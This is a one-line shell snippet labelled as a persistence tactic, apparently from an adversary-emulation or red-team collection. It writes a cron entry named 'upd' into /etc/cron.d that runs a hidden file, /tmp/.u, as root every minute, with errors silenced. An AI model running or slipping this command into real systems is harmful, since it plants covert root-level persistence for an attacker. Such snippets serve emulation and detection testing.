# tactic: persistence
# drop a file into /etc/cron.d
echo "* * * * * root /tmp/.u" > /etc/cron.d/upd 2>/dev/null; true
